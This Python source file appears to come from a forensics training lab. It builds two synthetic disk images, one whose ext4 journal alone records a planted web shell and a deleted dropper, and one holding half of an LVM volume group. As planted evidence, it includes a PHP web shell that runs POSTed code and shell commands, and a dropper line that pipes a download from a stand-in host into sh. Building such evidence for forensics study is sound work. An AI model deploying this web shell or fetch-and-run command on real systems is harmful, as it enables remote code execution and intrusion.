# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Two small disks of one instance, always the same bytes, made without mounting anything.

The first has an ext4 whose last changes are only in its journal: a web shell that came, a dropper that went. The second
has an ext4 that was unmounted, and one of two physical volumes of an LVM volume group, the other of which is nowhere.
"""

from __future__ import annotations

import hashlib
import shutil
import struct
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from lab.evidence.disks import CONTENT, MIB, NOTE, UUID, WHEN, ext4
from lab.evidence.ext4 import BLOCK, Ext4Writer, _quoted
from lab.evidence.lvm import checksum
from lab.evidence.run import copy_into, run, sparse_file
from lab.evidence.tree import SECOND, Tree

GIB = 1024 * MIB
SIZE = 64 * MIB
LVM_SIZE, LVM_AREA = 32 * MIB, 4096
SHELL = "/var/www/html/uploads/late.php"  # only the journal has it
DROPPER = "/tmp/dropper.sh"  # noqa: S108  a path on the disk; only the journal knows that it went
VOLUMES = ("F1rstP-aaaa-bbbb-cccc-dddd-eeee-ffffff", "Sec0nd-aaaa-bbbb-cccc-dddd-eeee-ffffff")
GROUP = "Gr0upG-aaaa-bbbb-cccc-dddd-eeee-ffffff"
TOKENS = ("dfir-lab-pair-journal", "dfir-lab-pair-lvm")


def dirty(path: Path) -> None:
    """ext4 whose journal holds what came after its tree was last written: replayed, it is another tree."""
    with tempfile.TemporaryDirectory(dir=path.parent) as name:
        work = Path(name)
        writer = Ext4Writer(path, work, WHEN // SECOND)
        writer.make(_tree(), SIZE, UUID.format(1), "first")
        later = Ext4Writer(work / "later.img", work, WHEN // SECOND + 600)
        shutil.copyfile(path, later.image)
        shell = work / "late.php"
        shell.write_text('<?php @eval(base64_decode($_POST["x"])); system($_REQUEST["c"]); ?>\n', encoding="utf-8")
        later._debugfs([f"cd {_quoted(str(Path(SHELL).parent))}", f"write {shell} {Path(SHELL).name}",
                        f"rm {_quoted(DROPPER)}"])
        _journal(writer, later.image, work)


def _journal(writer: Ext4Writer, later: Path, work: Path) -> None:
    """Commit every block that differs to the journal. Not the first: the superblock has the journal's own state."""
    script = ["journal_open"]
    with writer.image.open("rb") as now, later.open("rb") as then:
        for block in range(SIZE // BLOCK):
            old, new = now.read(BLOCK), then.read(BLOCK)
            if block and old != new:
                copy = work / f"block-{block}"
                copy.write_bytes(new)
                script.append(f"journal_write -b {block} {copy}")
    writer._debugfs([*script, "journal_close"])
    writer._set_commit_times(WHEN + 600 * SECOND)


def _tree() -> Tree:
    tree = Tree()
    tree.folder("/", b=WHEN)
    tree.file(NOTE, CONTENT, m=WHEN)
    tree.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", m=WHEN)
    tree.file("/var/www/html/uploads/index.html", "nothing here\n", m=WHEN)
    tree.file(DROPPER, "#!/bin/sh\ncurl -s http://192.0.2.9/a | sh\n", m=WHEN, mode=0o755)
    tree.settle()
    return tree


def lvm(path: Path) -> None:
    """The first physical volume of a group of two, with the description of the group."""
    volumes = "\n".join(f'pv{number} {{\nid = "{name}"\ndevice = "/dev/nvme{number + 1}n1p2"\n'
                        'status = ["ALLOCATABLE"]\n'
                        "flags = []\ndev_size = 65536\npe_start = 2048\npe_count = 7\n}"
                        for number, name in enumerate(VOLUMES))
    text = (f'data {{\nid = "{GROUP}"\nseqno = 2\nformat = "lvm2"\nstatus = ["RESIZEABLE", "READ", "WRITE"]\n'
            f"extent_size = 8192\nphysical_volumes {{\n{volumes}\n}}\n}}\n").encode() + b"\0"
    content = struct.pack("<32sQQQQQQQQQ", VOLUMES[0].replace("-", "").encode(), LVM_SIZE, MIB, 0, 0, 0, LVM_AREA,
                          MIB - LVM_AREA, 0, 0)
    label = bytearray(struct.pack("<8sQII8s", b"LABELONE", 1, 0, 32, b"LVM2 001") + content).ljust(512, b"\0")
    struct.pack_into("<I", label, 16, checksum(bytes(label[20:])))
    header = bytearray(struct.pack("<I16sIQQQQII", 0, b" LVM2 x[5A%r0N*>", 1, LVM_AREA, MIB - LVM_AREA, 512, len(text),
                                   checksum(text), 0)).ljust(512, b"\0")
    struct.pack_into("<I", header, 0, checksum(bytes(header[4:])))
    sparse_file(path, LVM_SIZE)
    with path.open("r+b") as disk:
        disk.seek(512)
        disk.write(label)
        disk.seek(LVM_AREA)
        disk.write(header + text)


def build(folder: Path) -> list[Path]:
    """Both disks, 1 GiB each."""
    parts: list[list[tuple[int, Callable[[Path], None]]]] = [[(SIZE, dirty)], [(SIZE, ext4), (LVM_SIZE, lvm)]]
    images = []
    for number, wanted in enumerate(parts, 1):
        image = folder / f"disk-{number}.img"
        sparse_file(image, GIB)
        table, start = f"label: gpt\nlabel-id: {UUID.format(number)}\nunit: sectors\n", MIB
        for position, (size, make) in enumerate(wanted, 1):
            table += f"start={start // 512}, size={size // 512}, uuid={UUID.format(position)[:-2]}{number}{position}\n"
            with tempfile.TemporaryDirectory(dir=folder) as work:
                part = Path(work, "part.img")
                make(part)
                part.rename(folder / f"part-{position}.img")
            start += size
        run(["sfdisk", "--quiet", "--no-reread", "--no-tell-kernel", str(image)], text_input=table)
        start = MIB
        for position, (size, _make) in enumerate(wanted, 1):
            part = folder / f"part-{position}.img"
            copy_into(part, image, start)
            part.unlink()
            start += size
        images.append(image)
    return images


def upload(client: Any) -> list[dict[str, str]]:
    """Both disks as snapshots of a region, over the EBS direct API: `snapshot` and `sha256` of each."""
    from lab.evidence import upload as direct

    with tempfile.TemporaryDirectory(prefix="lab-pair-") as name:
        found = []
        for image, token in zip(build(Path(name)), TOKENS, strict=True):
            with image.open("rb") as disk:
                digest = hashlib.file_digest(disk, "sha256").hexdigest()
            found.append({"snapshot": direct.upload(image, client, client_token=token, description="Disk of web-2"),
                          "sha256": digest})
        return found
